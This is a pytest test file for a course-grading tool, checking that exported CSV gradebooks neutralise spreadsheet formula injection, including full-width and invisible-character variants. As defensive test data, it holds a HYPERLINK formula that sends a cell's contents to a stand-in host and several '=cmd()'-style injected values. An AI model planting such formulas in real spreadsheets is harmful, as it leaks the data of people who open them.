"""Tables that people open in a spreadsheet: no formula, no lost letter."""

import csv
import io
import warnings
from pathlib import Path

import pytest

with warnings.catch_warnings():
    warnings.simplefilter("ignore")  # nbgrader's own, while it is imported
    from lmcourse.grading.gradebook.results import Class, Result
    from lmcourse.grading.reports import lms_files, tables
    from lmcourse.grading.reports.class_report import as_csv


EVIL = '=HYPERLINK("http://x"&A1)'
SIGNS = "=+-@|%＝＋－＠％｜﹣﹦"


STARTS = [
    *SIGNS,
    *[
        f"{blank}{sign}"
        for sign in "=＝"
        for blank in (" ", "\t", "\r", "\n", "\r\n", "\xa0", "\u3000")
    ],
    *[f"{unseen}=" for unseen in ("\u200b", "\ufeff", "\u202e", "\x00", "\x1b[1m")],
    *("\t", "\n"),
]


def rows(text):
    return list(csv.reader(io.StringIO(text)))


def acts(cell: str) -> bool:
    """What a careful spreadsheet of any country may take for a formula."""
    return cell[:1] in ("\t", "\r", "\n") or (
        cell.lstrip(" \t\r\n\xa0\u3000\u200b\ufeff\u202e")[:1] in tuple(SIGNS)
    )


@pytest.mark.parametrize("start", STARTS)
def test_no_cell_is_a_formula(start):
    rows_of_it = [{"student": "ada", "score": 27.5, "open": False}]
    known = {"ada": {"student": "ada", "name": f"{start}cmd()", "note": EVIL}}
    text, _ = lms_files.table("plain", f"{start}x", 30.0, rows_of_it, known)
    for cell in [cell for row in rows(text) for cell in row]:
        assert not acts(cell), cell


@pytest.mark.parametrize("start", STARTS)
def test_one_rule_holds_for_the_class_s_own_table(start):
    evil = Result(student=f"{start}1+1", problem=f"{start}cmd()")
    text = as_csv(Class(assignment="tiny", output=Path(), tasks=[], results=[evil]))
    for cell in [cell for row in rows(text) for cell in row]:
        assert not acts(cell), cell


def test_a_formula_behind_another_separator_is_none():
    assert tables.spreadsheet_safe("not found; =1+1\n＝2") == "not found; '=1+1\n'＝2"
    assert tables.spreadsheet_safe("a; b - c\nd = e") == "a; b - c\nd = e"


def test_people_s_spreadsheets_know_the_encoding_and_we_read_it_again(tmp_path):
    path = tmp_path / "table.csv"
    path.write_bytes(tables.for_people(tables.as_csv(["student"], [["Zoë"], ["语言"]])))
    assert path.read_bytes().startswith(b"\xef\xbb\xbfstudent")
    assert tables.read_csv(path, ["student"]) == [{"student": "Zoë"}, {"student": "语言"}]


def test_numbers_stay_numbers():
    assert [tables.spreadsheet_safe(x) for x in (-1.5, 0, 3, None, "-1", "a-b")] == [
        *("-1.5", "0", "3", "", "'-1", "a-b")
    ]
